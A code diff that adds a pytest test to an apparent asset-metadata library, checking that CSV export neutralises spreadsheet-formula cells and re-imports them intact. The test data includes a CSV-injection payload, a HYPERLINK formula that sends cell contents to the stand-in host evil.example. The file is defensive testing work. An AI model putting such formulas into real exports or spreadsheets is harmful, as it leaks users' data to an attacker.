@@ -27,6 +27,7 @@ ASSETLENS = "https://assetlens.dev/ns/1.0/"
 XMP_BASIC = "http://ns.adobe.com/xap/1.0/"
 NASTY = 'Tom & Jerry <"quoted"> Größe ☃ \x07bell'
 
+
 @pytest.fixture
 def store(tmp_path: Path) -> Iterator[Store]:
     s = make_store(tmp_path)
@@ -123,6 +124,36 @@ def test_export_wipe_import_restores_meta(store: Store, tmp_path: Path, fmt: str
     expected = {**before, 4: {}} if fmt == "csv" else before
     assert after == expected
     assert after[1]["channels"] == ["web", "print"] and after[1]["rating"] == 4.5
+
+
+def test_csv_quotes_cells_a_spreadsheet_would_run_and_imports_them_back(store: Store, tmp_path: Path) -> None:
+    # CSV injection: opened in Excel or LibreOffice, these cells would run as formulas.
+    formulas = {
+        "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "phone": "+1 555 0100",
+        "code": "-2+3",
+        "who": "@SUM(A1:A9)",
+        "tabbed": "\t=1+1",
+        "quoted": "'=already quoted",
+    }
+    declare_fields(store, {"delta": "number"})
+    set_meta(store, 1, {**formulas, "delta": "-5", "plain": "it's fine"})
+    before = store.meta_of(1)
+    target = tmp_path / "library.csv"
+    with target.open("w", encoding="utf-8", newline="") as f:
+        export_csv(store, f)
+
+    beach = next(csv.DictReader(target.open(encoding="utf-8", newline="")))
+    assert {k: beach[f"meta.{k}"] for k in formulas} == {k: "'" + v for k, v in formulas.items()}
+    assert beach["meta.delta"] == "-5" and beach["meta.plain"] == "it's fine"  # a number is no formula
+    assert beach["uri"] == uri(tmp_path, "photos/beach.jpg")
+
+    with store.transaction():
+        store.set_meta(1, {})
+    report = import_meta(store, target)
+    assert not report.errors
+    assert store.meta_of(1) == before and before["delta"] == -5
+    assert {k: before[k] for k in formulas} == formulas
 
 
 # --- XMP sidecars ----------------------------------------------------------------------------
